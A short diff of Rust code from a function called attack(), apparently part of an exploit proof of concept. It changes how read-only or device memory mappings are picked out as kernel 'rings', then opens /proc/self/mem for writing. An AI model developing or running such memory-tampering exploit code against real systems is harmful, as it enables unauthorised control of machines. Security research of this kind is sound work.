@@ -399,8 +399,10 @@ fn attack() -> Result<String, Error> {
     let mappings = process::stream_mappings();
     let own: Vec<&str> =
         mappings.iter().filter(|map| map.writable).map(|map| map.inode.as_str()).collect();
-    let rings: Vec<&Mapping> =
-        mappings.iter().filter(|map| !map.writable && !own.contains(&map.inode.as_str())).collect();
+    // Of the kernel engine all mappings are of one file.
+    let is_ring =
+        |map: &&Mapping| !map.writable && (map.is_device() || !own.contains(&map.inode.as_str()));
+    let rings: Vec<&Mapping> = mappings.iter().filter(is_ring).collect();
     let memory = File::options().read(true).write(true).open("/proc/self/mem");
     let memory = memory.map_err(os("open memory"))?;
     let (mut tried, mut worked) = (0, Vec::new());
